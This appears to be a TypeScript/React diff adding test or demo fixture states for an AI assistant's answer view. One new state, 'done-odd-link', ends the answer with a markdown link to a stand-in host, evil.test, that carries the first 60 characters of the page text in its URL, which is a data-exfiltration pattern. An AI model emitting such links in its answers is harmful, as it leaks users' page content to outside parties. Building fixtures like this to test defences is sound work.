@@ -241,6 +241,16 @@ function runStates(texts: Texts): States {
         />
       </Acted>
     ),
+    'done-odd-link': () => (
+      <Acted acts={[click('.answer a')]}>
+        {one(
+          { kind: 'done' },
+          {
+            text: `${answer}\n\n[Example](https://evil.test/take?it=${encodeURIComponent(texts.page.slice(0, 60))})`,
+          },
+        )}
+      </Acted>
+    ),
     'done-open-receipt': () => one({ kind: 'done' }, { text: answer, receipt: receipt() }),
     'stopped-open-receipt': () => one({ kind: 'stopped' }, { text: answer, receipt: partial }),
     stopped: () => one({ kind: 'stopped' }, { text: answer.slice(0, 170), receipt: partial }),
@@ -334,7 +344,7 @@ function followUpStates(texts: Texts, show: Show): States {
       show(
         run(from, {
           turns: [
-            first,
+            { ...first, text: texts.answer.slice(0, 70) },
             turn(
               { kind: 'failed', problem: { kind: 'too-large', tokens: 214_000, limit: 200_000 } },
               { id: '2', question },
